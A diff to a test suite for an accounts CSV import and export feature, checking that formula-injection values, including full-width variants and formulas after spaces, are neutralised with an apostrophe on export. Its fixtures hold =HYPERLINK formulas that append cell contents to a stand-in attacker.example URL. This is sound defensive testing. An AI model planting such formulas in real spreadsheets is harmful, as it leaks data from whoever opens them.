@@ -519,15 +519,26 @@ describe('the export', () => {
       // '@' in a department (a person's name refuses it, as the forms do: personNameField).
       `12400000001,"=cmd@example.jp",-,"=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","@SUM(A1:A9)","+81 3 1234 5678",+81 3 1234 5678`,
       `12400000002,apos@example.jp,"''=1+1",'80s 商会,"	総務部",東京都,-03-1234`,
+      // Full-width forms, which the forms store as = + @ (NFKC), as typed on a screen.
+      `12400000003,zen@example.jp,=山田 花子,"＝HYPERLINK(""https://attacker.example/""&D2,""詳細"")",＠SUM(A1:A9),＋81 東京都,-0312345678`,
     ];
     await upload(admin, 'formulas.csv', Buffer.from(csv([CSV_HEADER, ...hostile])));
-    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 0, inserted: 2 });
-    const stored = await web.app.db('accounts').whereIn('jsa_id', ['12400000001', '12400000002']).orderBy('jsa_id').select('email', 'contact_name', 'company', 'department', 'address', 'phone');
+    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 0, inserted: 3 });
+    const stored = await web.app.db('accounts').whereIn('jsa_id', ['12400000001', '12400000002', '12400000003']).orderBy('jsa_id').select('email', 'contact_name', 'company', 'department', 'address', 'phone');
     expect(stored).toEqual([
       { email: '=cmd@example.jp', contact_name: '-', company: '=HYPERLINK("https://attacker.example/"&D2&G2,"詳細")', department: '@SUM(A1:A9)', address: '+81 3 1234 5678', phone: '+81 3 1234 5678' },
       // The tab in front of 総務部 is trimmed by the forms' rules, as typed on a screen.
       { email: 'apos@example.jp', contact_name: "'=1+1", company: "'80s 商会", department: '総務部', address: '東京都', phone: '-03-1234' },
+      { email: 'zen@example.jp', contact_name: '=山田 花子', company: '=HYPERLINK("https://attacker.example/"&D2,"詳細")', department: '@SUM(A1:A9)', address: '+81 東京都', phone: '-0312345678' },
     ]);
+
+    // The rejected rows give back the values as they were in the file, untrimmed: a formula after
+    // spaces or in full-width forms is guarded there too.
+    await upload(admin, 'formulas-rejected.csv', Buffer.from(csv([CSV_HEADER, `1240,"\u3000＝HYPERLINK(""https://attacker.example/""&D2)",＋1, =1+1,－1,＠A1,"	=1"`])));
+    expect((await runAndWait(admin, false)).job.run).toMatchObject({ state: 'done', rejected: 1 });
+    const rejects = await download(admin, (await ok<{ ticket: string }>(admin, 'accounts.import.rejects', {})).ticket);
+    const rejectedRow = rejects.bytes.toString('utf8').trimEnd().split('\r\n')[1]!;
+    expect(rejectedRow.slice(1, -1).split('","').slice(2)).toEqual(['1240', `'\u3000＝HYPERLINK(""https://attacker.example/""&D2)`, "'＋1", "' =1+1", "'－1", "'＠A1", "'	=1"]);
 
     for (const encoding of ['utf-8', 'shift_jis'] as const) {
       const begun = await ok<{ ticket: string; fileName: string; accounts: number }>(supervisor, 'accounts.export.begin', { encoding, personalDataConfirmed: true });
@@ -536,8 +547,9 @@ describe('the export', () => {
       const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\r\n');
       expect(lines).toContain(`"12400000001","'=cmd@example.jp","'-","'=HYPERLINK(""https://attacker.example/""&D2&G2,""詳細"")","'@SUM(A1:A9)","'+81 3 1234 5678","'+81 3 1234 5678"`);
       expect(lines).toContain(`"12400000002","apos@example.jp","''=1+1","'80s 商会","総務部","東京都","'-03-1234"`);
+      expect(lines).toContain(`"12400000003","zen@example.jp","'=山田 花子","'=HYPERLINK(""https://attacker.example/""&D2,""詳細"")","'@SUM(A1:A9)","'+81 東京都","'-0312345678"`);
       // No cell of the whole file begins with what a spreadsheet runs.
-      for (const line of lines.slice(1)) for (const cellText of line.slice(1, -1).split('","')) expect(cellText).not.toMatch(/^[=+\-@\t\r]/);
+      for (const line of lines.slice(1)) for (const cellText of line.slice(1, -1).split('","')) expect(cellText).not.toMatch(/^(?:[\t\r]|\s*[=+\-@＝＋－＠])/);
 
       const before = await web.app.db('accounts').select('jsa_id', 'email', 'contact_name', 'company', 'department', 'address', 'phone', 'version').orderBy('jsa_id');
       await upload(admin, begun.fileName, got.bytes);
